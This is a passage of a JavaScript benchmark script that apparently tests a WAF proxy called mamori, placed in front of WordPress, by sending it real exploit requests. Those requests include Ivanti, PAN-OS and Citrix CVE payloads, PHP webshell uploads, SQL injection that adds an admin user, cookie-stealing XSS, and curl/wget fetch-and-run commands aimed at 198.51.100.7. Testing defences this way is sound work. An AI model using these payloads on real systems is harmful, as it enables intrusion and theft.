  attack('Ivanti keys-status command injection', 'CVE-2024-21887', get("/api/v1/totp/user-backup-code/../../license/keys-status/%3Bpython%20-c%20%27import%20socket%2Csubprocess%3Bs%3Dsocket.socket()%27%3B"));
  attack('Ivanti cloud-server-test-connection injection', 'CVE-2024-21887', () =>
    a.post('/api/v1/totp/user-backup-code/../../system/maintenance/archiving/cloud-server-test-connection', json({ type: ';wget -O /tmp/x http://198.51.100.7/x;', txtGCPProject: 'a', txtGCPSecret: 'a', txtGCPPath: 'a', txtGCPBucket: 'a' })),
  );
  attack('Citrix /vpns/ traversal (read smb.conf)', 'CVE-2019-19781', get('/vpn/../vpns/cfg/smb.conf'));
  attack('Citrix newbm.pl with NSC_USER traversal', 'CVE-2019-19781', () =>
    a.post('/vpn/../vpns/portal/scripts/newbm.pl', form({ url: 'http://example.com', title: "[%template.new({'BLOCK'='print `id`'})%]", desc: 'x', UI_inuse: 'RfWeb' }), { NSC_USER: '../../../netscaler/portal/templates/mamoribench', NSC_NONCE: 'nsroot' }),
  );
  attack('Citrix gwtest/formssso long target', 'CVE-2023-3519', get(`/gwtest/formssso?event=start&target=${'A'.repeat(600)}`));
  attack('Citrix Bleed, 24 KB Host header', 'CVE-2023-4966', () => new Client(PROXY_PORT, 'a'.repeat(24_576)).get('/oauth/idp/.well-known/openid-configuration'));
  attack('PAN-OS GlobalProtect SESSID traversal', 'CVE-2024-3400', () =>
    a.post('/ssl-vpn/hipreport.esp', form({ user: 'x' }), { Cookie: 'SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/hellothere226`curl${IFS}198.51.100.7:4444?user=$(whoami)`' }),
  );

  // The same exploits in shapes without a ./.. path segment (mamori's proxy refuses any such segment
  // with 400 before its WAF runs): the post-authentication forms and the header/backslash variants.
  attack('Ivanti keys-status injection, no traversal', 'CVE-2024-21887', get('/api/v1/license/keys-status/%3Bid%3B'));
  attack('Ivanti cloud-server-test-connection, no traversal', 'CVE-2024-21887', () => a.post('/api/v1/system/maintenance/archiving/cloud-server-test-connection', json({ type: ';wget -O /tmp/x http://198.51.100.7/x;', txtGCPProject: 'a' })));
  attack('Citrix newbm.pl, NSC_USER traversal only', 'CVE-2019-19781', () =>
    a.post('/vpns/portal/scripts/newbm.pl', form({ url: 'http://example.com', title: 'x', desc: 'x', UI_inuse: 'RfWeb' }), { NSC_USER: '../../../netscaler/portal/templates/mamoribench', NSC_NONCE: 'nsroot' }),
  );
  attack('Citrix /vpns/ traversal with a backslash', 'CVE-2019-19781', get('/vpn/..%5cvpns/cfg/smb.conf'));
  attack('Pulse Secure traversal with a backslash', 'CVE-2019-11510', get('/dana-na/..%5cdana/html5acc/guacamole/..%5c..%5c..%5cetc/passwd'));
  attack('Citrix Bleed, 4 KB Host header', 'CVE-2023-4966', () => new Client(PROXY_PORT, 'a'.repeat(4096)).get('/oauth/idp/.well-known/openid-configuration'));

  // WordPress (mamori-20-cms.conf)
  const call = (m) => `<value><struct><member><name>methodName</name><value><string>${m}</string></value></member><member><name>params</name><value><array><data><value><array><data><value><string>admin</string></value><value><string>password${m.length}</string></value></data></array></value></data></array></value></member></struct></value>`;
  attack('xmlrpc.php system.multicall brute force', 'WPScan/Sucuri write-ups', () =>
    a.post('/xmlrpc.php', xml(`<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>${['wp.getUsersBlogs', 'wp.getUsersBlogs', 'wp.getUsersBlogs', 'wp.getUsersBlogs'].map(call).join('')}</data></array></value></param></params></methodCall>`)),
  );
  attack('xmlrpc.php pingback.ping to 127.0.0.1', 'CVE-2013-0235', () =>
    a.post('/xmlrpc.php', xml(`<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://127.0.0.1:22/</string></value></param><param><value><string>http://${SITE}/?p=${ctx.postId ?? 1}</string></value></param></params></methodCall>`)),
  );
  attack('wp-file-manager connector probe', 'CVE-2020-25213', get('/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php'));
  attack('wp-file-manager connector upload', 'CVE-2020-25213', () =>
    a.post('/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php', multipart({ cmd: 'upload', target: 'l1_Lw' }, [{ field: 'upload[]', filename: 'x.php', type: 'application/x-php', data: '<?php system($_GET["c"]); ?>' }])),
  );
  attack('revslider_show_image reads wp-config.php', 'CVE-2014-9734', get('/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php'));
  attack('Social Warfare swp_url remote code', 'CVE-2019-9978', get('/wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://198.51.100.7/payload.txt'));
  attack('WP-Automatic csv.php SQL', 'CVE-2024-27956', () =>
    a.post('/wp-content/plugins/wp-automatic/inc/csv.php', form({ q: "INSERT INTO wp_users (user_login, user_pass, user_nicename, user_email, user_url, user_registered, user_status, display_name) VALUES ('eviladmin', '$P$BASbMqW0nlZRux/2IhCw7AdvoNI4VT0', 'eviladmin', 'x@example.test', 'http://example.test', '2024-04-30 16:26:43', 0, 'eviladmin');", auth: '\0', integ: 'a0f3d6c1b5e2849f7c3b1a2d4e6f8091' })),
  );
  attack('Kaswara uploadFontIcon zip upload', 'CVE-2021-24284', () =>
    a.post('/wp-admin/admin-ajax.php?action=uploadFontIcon', multipart({ action: 'uploadFontIcon', fontsetname: 'x', fonttype: 'icomoon' }, [{ field: 'fonticonzipfile', filename: 'icons.zip', type: 'application/zip', data: Buffer.from('504b0304140000000800', 'hex') }])),
  );
  for (const p of ['/wp-config.php.bak', '/wp-config.php~', '/.wp-config.php.swp', '/wp-config.old']) attack(`wp-config backup ${p}`, 'backup probes', get(p));

  // sensitive files
  for (const p of ['/.env', '/.git/config', '/.git/HEAD', '/backup.zip', '/db.sql']) attack(`probe ${p}`, 'sensitive files', get(p));

  // webshells through the media library, as the logged-in editor
  const upload = (file) => () => ctx.ed.post('/wp-admin/async-upload.php', multipart({ name: file.filename, action: 'upload-attachment', _wpnonce: ctx.mediaNonce ?? '' }, [{ field: 'async-upload', ...file }]));
  const jpegHead = Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex');
  attack('webshell: PHP in a .jpg (media upload)', 'CWE-434', upload({ filename: 'photo.jpg', type: 'image/jpeg', data: Buffer.concat([jpegHead, Buffer.from('<?php system($_GET["c"]); ?>')]) }));
  attack('webshell: double extension shell.php.jpg', 'CWE-434', upload({ filename: 'shell.php.jpg', type: 'image/jpeg', data: jpegHead }));
  attack('webshell: shell.phtml', 'CWE-434', upload({ filename: 'shell.phtml', type: 'application/octet-stream', data: 'GIF89a<?= `$_GET[c]` ?>' }));
  attack('webshell: PHP in a .jpg (REST media)', 'CWE-434', () => ctx.ed.post('/wp-json/wp/v2/media', multipart({}, [{ field: 'file', filename: 'cat.jpg', type: 'image/jpeg', data: Buffer.concat([jpegHead, Buffer.from('<?php eval($_POST["x"]); ?>')]) }]), { 'X-WP-Nonce': ctx.restNonce ?? '' }));
  attack('webshell probe /wp-content/uploads/wso.php', 'known webshell names', get('/wp-content/uploads/wso.php'));

  // SQL injection, XSS, command injection
  attack("SQLi in ?s= (UNION)", 'CRS 942', get(`/?s=${encodeURIComponent("1' UNION SELECT user_login,user_pass FROM wp_users-- -")}`));
  attack('SQLi in ?p= (time-based)', 'CRS 942', get(`/?p=${encodeURIComponent('1 AND SLEEP(5)')}`));
  attack('SQLi in ?p= (UNION)', 'CRS 942', get(`/?p=${encodeURIComponent('-1 UNION SELECT 1,2,3,4')}`));
  attack('command injection in ?s=', 'mamori-30', get(`/?s=${encodeURIComponent(';cat /etc/passwd')}`));
  const comment = (text) => () => a.post('/wp-comments-post.php', form({ comment: text, author: 'x', email: 'x@example.test', url: '', submit: 'Post Comment', comment_post_ID: ctx.postId ?? '1', comment_parent: '0' }));
  attack('XSS in a comment (<script>)', 'CRS 941', comment('great post<script>fetch("//198.51.100.7/?c="+document.cookie)</script>'));
  attack('XSS in a comment (onerror)', 'CRS 941', comment('<img src=x onerror=alert(document.domain)>'));

  // What the editor exclusions give up, and what they keep: attacks aimed at the excluded fields.
  const anon = (path, body) => () => a.post(path, json(body), { 'X-HTTP-Method-Override': 'PUT' });
  const givenUp = (name, source, run) => steps.push({ kind: 'attack', name, source, expect: 'refuse', excludedExpect: 'info', run });
  givenUp('XSS in json.content, no login (WordPress: 401)', 'given up', anon('/wp-json/wp/v2/posts/1', { content: '<script>fetch("//198.51.100.7/?c="+document.cookie)</script>' }));
  givenUp('shell command in a comment', 'given up', async () => {
    await sleep(16_000); // past WordPress's 15 s between comments from one address
    return comment('try this: $(curl -s 198.51.100.7/x|sh)')();
  });
  attack('SQLi in json.content, no login', 'kept (942)', anon('/wp-json/wp/v2/posts/1', { content: "1' UNION SELECT user_login,user_pass FROM wp_users-- -" }));
  attack('XSS in json.title, no login', 'kept (941)', anon('/wp-json/wp/v2/posts/1', { title: '<img src=x onerror=alert(1)>' }));
  attack('webshell upload via the excluded REST route', 'kept (36104010)', () => a.post('/wp-json/wp/v2/posts/1', multipart({ content: 'x' }, [{ field: 'file', filename: 'a.jpg', type: 'image/jpeg', data: '<?php system($_GET["c"]); ?>' }])));
  return steps;
}

// ---------------------------------------------------------------------------------------------
// Running and reporting
// ---------------------------------------------------------------------------------------------
/** mamori's own refusals: a WAF audit line that blocked, or a status only the proxy answers with. */
function refusedBy(res, lines) {
  const blocked = lines.find((l) => l.action === 'blocked');
  if (blocked) return `waf ${blocked.interrupting_rule}`;
  if ([400, 413, 429, 431].includes(res.status) && !/nginx|WordPress|wp-/i.test(res.text)) return `proxy ${res.status}`;
  return undefined;
}

async function runSteps(steps, audit, pass) {
  const rows = [];
  for (const s0 of steps) {
    const s = pass === 'excluded' && s0.excludedExpect ? { ...s0, expect: s0.excludedExpect } : s0;
    let res;
    try {
      res = await s.run();
    } catch (err) {
      res = { status: 0, headers: {}, text: `error: ${err.message}` };
    }
    const lines = await audit.take(s.expect === 'refuse' || [400, 403, 413, 429, 431].includes(res.status));
    const refused = refusedBy(res, lines);
    const ids = [...new Set(lines.flatMap((l) => (l.matched ?? []).map((m) => m.id)))].filter((id) => !/^9(49|59|80)\d{3}$/.test(String(id)));
    const ok = s.expect === 'info' || (s.expect === 'refuse' ? refused !== undefined : refused === undefined && res.status > 0 && res.status < 500);
    if (s0.excludedExpect) s.name = `${s.name} [${pass === 'excluded' ? 'given up' : 'bare'}]`;
    const matched = lines.flatMap((l) => (l.matched ?? []).map((m) => `${m.id} ${m.target}=${String(m.data).slice(0, 60)}`));
    rows.push({ kind: s.kind, name: s.name, source: s.source, expect: s.expect, status: res.status, refused: refused ?? '', rules: ids, matched, ok, note: res.status === 0 ? res.text : '' });
  }
  return rows;
}

function table(rows) {
  const out = [];
  const w = Math.max(...rows.map((r) => r.name.length));
  out.push(`${'request'.padEnd(w)}  expect  status  mamori        rules`);
  for (const r of rows) out.push(`${r.name.padEnd(w)}  ${(r.expect === 'refuse' ? '403' : r.expect).padEnd(6)}  ${String(r.status).padEnd(6)}  ${(r.refused || '-').padEnd(12)}  ${r.rules.join(' ')}${r.ok ? '' : '   <-- ' + (r.expect === 'refuse' ? 'NOT REFUSED' : 'FALSE POSITIVE')}${r.note ? ' ' + r.note : ''}`);
  return out.join('\n');
}

async function main() {
  const fpm = checks();
  const results = {};
  try {
    await setupServers(fpm);
    await installWordPress();
    const direct = await new Client(NGINX_PORT).get('/');
    if (direct.status !== 200) throw new Error(`WordPress on nginx answers ${direct.status} at /: see ${WORK}/*.log`);
    for (const pass of PASSES) {
      const m = await startMamori(pass);
      try {
        const { steps, ctx } = editorSteps();
        const rows = await runSteps([...steps], m.audit, pass);
        rows.push(...(await runSteps(attackSteps(ctx), m.audit, pass)));
        results[pass] = rows;
        console.log(`\n== pass "${pass}": ${pass === 'bare' ? 'CRS PL1 + rule pack, no exclusions' : 'with the editor exclusions of docs/waf.md'} (config ${m.file})\n`);
        console.log(table(rows));
        const fp = rows.filter((r) => r.expect === 'pass' && !r.ok);
        const info = rows.filter((r) => r.expect === 'info');
        const miss = rows.filter((r) => r.expect === 'refuse' && !r.ok);
        console.log(`\n${pass}: ${rows.filter((r) => r.expect === 'pass').length - fp.length}/${rows.filter((r) => r.expect === 'pass').length} normal requests passed, ${rows.filter((r) => r.expect === 'refuse').length - miss.length}/${rows.filter((r) => r.expect === 'refuse').length} attacks refused${info.length ? `; given up by the exclusions: ${info.map((r) => `${r.name} -> ${r.refused || r.status}`).join(', ')}` : ''}`);
        if (process.env.MAMORI_WP_VERBOSE) for (const r of rows) if (r.matched.length) console.log(`  ${r.name}: ${r.matched.join(' | ')}`);
      } finally {
        await stop(m.child);
      }
      const ev = JSON.parse(execFileSync(process.execPath, [join(ROOT, 'packages/cli/bin/mamori.js'), 'events', '--config', m.file, '--json', '--each', '--limit', '10000'], { encoding: 'utf8' }));
      const byAction = {};
      for (const e of ev) byAction[e['event.action']] = (byAction[e['event.action']] ?? 0) + 1;
      const proxyRefused = results[pass].filter((r) => r.refused.startsWith('proxy')).length;
      console.log(`${pass}: mamori events: ${JSON.stringify(byAction)}; ${proxyRefused} requests refused by the proxy before the WAF (no event, no audit line)`);
    }
  } finally {
    for (const { name, child } of children.reverse()) {
      if (KEEP && (name === 'nginx' || name === 'php-fpm')) console.log(`${name} left running (pid ${child.pid}); stop it with kill ${child.pid}`);
      else await stop(child);
    }
  }
  if (JSON_OUT) writeFileSync(JSON_OUT, JSON.stringify(results, null, 2));
}

main().catch((err) => {
  console.error(err);
  process.exitCode = 1;
});
